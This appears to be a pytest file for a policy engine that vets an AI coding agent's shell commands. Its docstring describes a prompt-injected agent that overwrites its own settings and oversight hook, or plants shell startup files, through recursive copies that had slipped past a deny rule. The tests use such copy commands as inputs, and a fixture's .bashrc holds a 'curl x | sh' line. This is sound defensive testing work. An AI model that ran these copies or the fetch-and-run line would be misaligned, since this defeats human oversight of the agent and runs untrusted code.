"""Threat: an injected agent replaces the agent's configuration, or plants a file a shell or
tool loads, by copying a whole tree over the project or the home directory: `cp -r
/tmp/x/.claude .`, `cp -r /tmp/x/. .`, `rsync -a /tmp/x/ ./`, `cp -a /tmp/x/. ~/`. A write of
`.claude/settings.json` itself was denied, but a recursive copy was judged only by its
destination directory, which no rule names, and allowed; the settings (and with them the
CrustCore hook) were replaced wholesale.

Invariant: a recursive copy (`cp -r/-R/-a`, `rsync -r/-a`, `ditto`) writes every file of its
source tree below its destination, and each is judged as a write of its own (the source is
walked breadth-first, no link followed, at most 1,024 entries; rsync's plain `--exclude`
patterns are honoured, never widened). When the source cannot be walked (it does not exist
yet), a destination that holds the agent's configuration is asked about. Interpreter code
that reads a directory and writes one (`shutil.copytree`, `fs.cpSync`) is judged the same way.
Copies into a temporary directory, and copies whose trees plant nothing protected, stay
allowed."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from crustcore_nano.policy.engine import PolicyEngine
from crustcore_nano.policy.types import Verdict

BashVerdict = Callable[[str], tuple[Verdict, str]]  # the `bash` fixture of conftest.py
Plant = Callable[[Path, dict[str, str]], None]  # the `plant` fixture of conftest.py


@pytest.fixture
def trees(seeded_engine: PolicyEngine, tmp_path: Path, plant: Plant) -> Path:
    """`tmp_path/drop` (a tree with agent settings and a shell startup file) and
    `tmp_path/template` (a plain project template); the workspace holds agent settings."""
    plant(Path(seeded_engine.workspace), {".claude/settings.json": '{"hooks": {}}\n'})
    plant(
        tmp_path / "drop",
        {".claude/settings.json": '{"hooks": {}}\n', ".bashrc": "curl x | sh\n", "a.py": "1\n"},
    )
    plant(tmp_path / "template", {"src/main.py": "print(1)\n", "README.md": "# t\n"})
    return tmp_path


@pytest.fixture
def decide(trees: Path, bash: BashVerdict) -> BashVerdict:
    """`bash`, with `DROP` and `TPL` in the command standing for the two trees."""
    return lambda command: bash(
        command.replace("DROP", str(trees / "drop")).replace("TPL", str(trees / "template"))
    )


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("cp -r DROP/.claude .", "builtin:agent-config"),
        ("cp -rf DROP/.claude ./", "builtin:agent-config"),
        ("cp -a DROP/.claude/ .claude", "builtin:agent-config"),
        ("rsync -a --exclude .bashrc DROP/ ./", "builtin:agent-config"),
        ("cp -r DROP/. .", "builtin:shell-startup-files"),
        ("rsync -av DROP/ ./", "builtin:shell-startup-files"),
        ("rsync -a --exclude .claude DROP/ ./", "builtin:shell-startup-files"),
        ("cp -R DROP/. ~/", "builtin:shell-startup-files"),
        (
            "python3 -c \"import shutil; shutil.copytree('DROP/.claude', '.claude', "
            'dirs_exist_ok=True)"',
            "builtin:agent-config",
        ),
        (
            "node -e \"require('fs').cpSync('DROP/.claude', '.claude', {recursive: true})\"",
            "builtin:agent-config",
        ),
    ],
)
def test_a_copied_tree_that_plants_a_protected_file_is_denied(
    decide: BashVerdict, command: str, rule: str
) -> None:
    assert decide(command) == (Verdict.DENY, rule)


@pytest.mark.parametrize(
    "command",
    [
        "cp -r /nonexistent/fetched/.claude .",
        "rsync -a /nonexistent/fetched/ ./",
        "cp -r /nonexistent/fetched/. .",
    ],
)
def test_a_tree_that_cannot_be_walked_over_the_agent_config_is_asked(
    decide: BashVerdict, command: str
) -> None:
    assert decide(command) == (Verdict.ASK, "builtin:agent-config")


@pytest.mark.parametrize(
    "command",
    [
        "cp -r TPL/. .",
        "cp -r TPL/src lib",
        "rsync -av TPL/ ./",
        "cp -r /nonexistent/fetched/src .",
        "cp -r . /tmp/project-backup",
        "rsync -av --exclude .env --exclude node_modules ./ /tmp/ws-copy/",
        "cp -r src src-old",
        "python3 -c \"import shutil; shutil.copytree('TPL', 'app')\"",
    ],
)
def test_copies_that_plant_nothing_protected_stay_allowed(
    decide: BashVerdict, command: str
) -> None:
    assert decide(command) == (Verdict.ALLOW, "allow")
